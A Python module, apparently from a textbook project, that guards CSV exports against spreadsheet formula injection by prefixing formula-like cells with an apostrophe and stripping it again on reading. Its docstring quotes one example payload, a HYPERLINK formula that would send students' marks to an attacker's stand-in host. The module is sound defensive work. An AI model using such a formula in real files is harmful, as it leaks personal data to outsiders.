"""CSV for a spreadsheet. Every CSV the book writes goes through `write_csv` (the grade sheet, the data tables
published with the book, the link report), so no cell that a spreadsheet opens can start a formula: a student's
id such as ``=HYPERLINK("https://attacker.example/?"&C2:C99, "click")`` would otherwise send a class's marks
away with one click.

A text cell that starts as a formula does (peacebook.data.cells.starts_a_formula: = + - @, a tab or a carriage
return) is written with an apostrophe in front, which spreadsheets show as text (OWASP's advice on CSV
injection). A plain number (``-3``, ``+1.5``, ``2e-3``) is written as it is: a spreadsheet reads it as the
number, and a negative number stays a number. `read_csv` takes the apostrophe off again.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterable
from pathlib import Path

import pandas as pd

from .cells import starts_a_formula

NEUTRALISER = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_cell(value):
    """`value` as a spreadsheet should receive it: text that would start a formula gets an apostrophe in front.

    >>> spreadsheet_cell('=HYPERLINK("https://x.example")'), spreadsheet_cell("-2"), spreadsheet_cell("-2+3")
    ('\\'=HYPERLINK("https://x.example")', '-2', "'-2+3")
    >>> spreadsheet_cell("\\tSUM(A1)"), spreadsheet_cell(-4), spreadsheet_cell("Minsk II")
    ("'\\tSUM(A1)", -4, 'Minsk II')
    """
    if isinstance(value, str) and starts_a_formula(value) and not _PLAIN_NUMBER.fullmatch(value):
        return NEUTRALISER + value
    return value


def write_csv(target, header: list[str], rows: Iterable[Iterable], *, excel: bool = False) -> None:
    """Write a CSV file (a path, or an open text stream) with every cell made safe for a spreadsheet.

    `excel`: a UTF-8 byte-order mark and CRLF line ends, so that Excel opens names in any script correctly (the
    grade sheet); otherwise plain UTF-8 and LF, as the book's own data files are written."""
    if isinstance(target, (str, Path)):
        with open(target, "w", encoding="utf-8-sig" if excel else "utf-8", newline="") as out:
            write_csv(out, header, rows, excel=excel)
        return
    writer = csv.writer(target, lineterminator="\r\n" if excel else "\n")
    writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_cell("" if cell is None or cell is pd.NA else cell) for cell in row])


def frame_csv(frame: pd.DataFrame, *, excel: bool = True) -> str:
    """A DataFrame as CSV text for a spreadsheet, missing values as empty cells (with `excel`, beginning with the
    byte-order mark, for a file written as UTF-8)."""
    out = io.StringIO()
    rows = frame.astype(object).where(frame.notna(), None).itertuples(index=False, name=None)
    write_csv(out, [str(c) for c in frame.columns], rows, excel=excel)
    return ("\ufeff" if excel else "") + out.getvalue()


def copy_csv(source: Path, target: Path) -> None:
    """Publish a CSV file (the book's data tables): byte for byte when no cell needs making safe (the loader
    refuses such cells in data/, so this is the rule), else rewritten cell by cell through `write_csv`."""
    with open(source, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    if all(spreadsheet_cell(cell) == cell for row in rows for cell in row):
        shutil.copyfile(source, target)
    else:
        write_csv(target, rows[0] if rows else [], rows[1:])


def read_csv(source) -> pd.DataFrame:
    """A CSV file written by `write_csv` and perhaps edited in a spreadsheet since, every cell as text: the
    apostrophe `write_csv` put in front of a formula-like cell is taken off. Commas or semicolons (a spreadsheet
    in a European locale saves with semicolons), UTF-8 with or without a byte-order mark, or Windows-1252."""
    raw = Path(source).read_bytes()
    try:
        text = raw.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = raw.decode("cp1252", errors="replace")
    first = text.splitlines()[0] if text else ""
    delimiter = ";" if first.count(";") > first.count(",") else ","
    frame = pd.read_csv(io.StringIO(text), sep=delimiter, dtype=str, keep_default_na=False)
    return frame.map(
        lambda cell: cell[1:] if cell.startswith(NEUTRALISER) and starts_a_formula(cell[1:]) else cell
    ).rename(columns=lambda c: c[1:] if c.startswith(NEUTRALISER) and starts_a_formula(c[1:]) else c)
